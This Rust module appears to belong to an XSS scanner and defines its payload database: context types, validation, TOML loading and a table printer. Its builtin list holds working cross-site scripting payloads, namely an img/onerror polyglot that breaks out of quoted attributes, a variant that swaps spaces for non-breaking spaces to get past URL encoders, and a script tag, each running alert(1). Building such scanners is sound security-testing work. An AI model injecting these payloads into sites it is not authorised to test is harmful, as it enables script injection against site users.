//! The injection payload database used in Phase 2.
//!
//! Every payload executes `alert(1)`; both exploit checkers key on that
//! marker. Payloads are tried in list order until one confirms a flow.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::Path;

use serde::{Deserialize, Serialize};

pub const MARKER: &str = "alert(1)";

/// Longest payload the builtin list may contain (characters).
pub const LENGTH_BUDGET: usize = 64;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum HtmlContext {
    TagText,
    AttributeSingleQuoted,
    AttributeDoubleQuoted,
}

impl HtmlContext {
    pub fn as_str(self) -> &'static str {
        match self {
            HtmlContext::TagText => "tag-text",
            HtmlContext::AttributeSingleQuoted => "attribute-single-quoted",
            HtmlContext::AttributeDoubleQuoted => "attribute-double-quoted",
        }
    }
}

/// Transformations applied by a sink that the payload still survives.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Hazard {
    UrlEncodeSpaces,
}

impl Hazard {
    pub fn as_str(self) -> &'static str {
        match self {
            Hazard::UrlEncodeSpaces => "url-encode-spaces",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    pub payload_id: String,
    pub text: String,
    pub contexts: BTreeSet<HtmlContext>,
    /// Character count of `text`.
    pub length: usize,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub variant_of: Option<String>,
    #[serde(default)]
    pub hazards: BTreeSet<Hazard>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PayloadError {
    #[error("payload {0} has no U+0020 to replace")]
    NoSpaces(String),
    #[error("payload {id}: {problem}")]
    Invalid { id: String, problem: String },
    #[error("payload file: {0}")]
    Format(String),
}

impl Payload {
    pub fn new(id: &str, text: &str, contexts: impl IntoIterator<Item = HtmlContext>) -> Payload {
        Payload {
            payload_id: id.to_string(),
            text: text.to_string(),
            contexts: contexts.into_iter().collect(),
            length: text.chars().count(),
            variant_of: None,
            hazards: BTreeSet::new(),
        }
    }

    pub fn check(&self) -> Result<(), PayloadError> {
        let invalid = |problem: &str| PayloadError::Invalid {
            id: self.payload_id.clone(),
            problem: problem.to_string(),
        };
        if !self.text.contains(MARKER) {
            return Err(invalid("missing the alert(1) marker"));
        }
        if self.length != self.text.chars().count() {
            return Err(invalid("recorded length differs from character count"));
        }
        if self.text.contains(['\r', '\n']) {
            return Err(invalid("contains CR or LF"));
        }
        Ok(())
    }
}

/// Same payload with every U+0020 turned into U+00A0, which URL encoders
/// that only rewrite ASCII whitespace leave untouched.
pub fn nbsp_variant(p: &Payload) -> Result<Payload, PayloadError> {
    if !p.text.contains(' ') {
        return Err(PayloadError::NoSpaces(p.payload_id.clone()));
    }
    let text = p.text.replace(' ', "\u{a0}");
    let mut hazards = p.hazards.clone();
    hazards.insert(Hazard::UrlEncodeSpaces);
    Ok(Payload {
        payload_id: format!("{}-nbsp", p.payload_id),
        length: text.chars().count(),
        text,
        contexts: p.contexts.clone(),
        variant_of: Some(p.payload_id.clone()),
        hazards,
    })
}

/// Priority-ordered builtin list: the short img/onerror polyglot, its
/// non-breaking-space variant, then the classic script tag.
pub fn builtin_payloads() -> Vec<Payload> {
    let polyglot = Payload::new(
        "polyglot",
        "\"'/><img src='x' onerror='alert(1)'/>",
        [
            HtmlContext::TagText,
            HtmlContext::AttributeSingleQuoted,
            HtmlContext::AttributeDoubleQuoted,
        ],
    );
    let nbsp = nbsp_variant(&polyglot).expect("polyglot has spaces");
    let script = Payload::new("script", "<script>alert(1)</script>", [HtmlContext::TagText]);
    vec![polyglot, nbsp, script]
}

#[derive(Serialize, Deserialize)]
struct PayloadFile {
    payload: Vec<Payload>,
}

pub fn payloads_to_toml(payloads: &[Payload]) -> String {
    toml::to_string(&PayloadFile {
        payload: payloads.to_vec(),
    })
    .expect("payloads serialize")
}

pub fn payloads_from_toml(text: &str) -> Result<Vec<Payload>, PayloadError> {
    let file: PayloadFile = toml::from_str(text).map_err(|e| PayloadError::Format(e.to_string()))?;
    for p in &file.payload {
        p.check()?;
    }
    Ok(file.payload)
}

pub fn load_payloads(path: &Path) -> Result<Vec<Payload>, PayloadError> {
    let text = std::fs::read_to_string(path).map_err(|e| PayloadError::Format(e.to_string()))?;
    payloads_from_toml(&text)
}

/// Fixed-width table of ids, lengths, contexts and hazards.
pub fn payload_table(payloads: &[Payload]) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{:<16} {:>6}  {:<66} {:<18} TEXT", "ID", "LENGTH", "CONTEXTS", "HAZARDS");
    for p in payloads {
        let contexts: Vec<_> = p.contexts.iter().map(|c| c.as_str()).collect();
        let hazards: Vec<_> = p.hazards.iter().map(|h| h.as_str()).collect();
        let _ = writeln!(
            out,
            "{:<16} {:>6}  {:<66} {:<18} {}",
            p.payload_id,
            p.length,
            contexts.join(","),
            if hazards.is_empty() { "-".to_string() } else { hazards.join(",") },
            p.text.escape_default()
        );
    }
    out
}
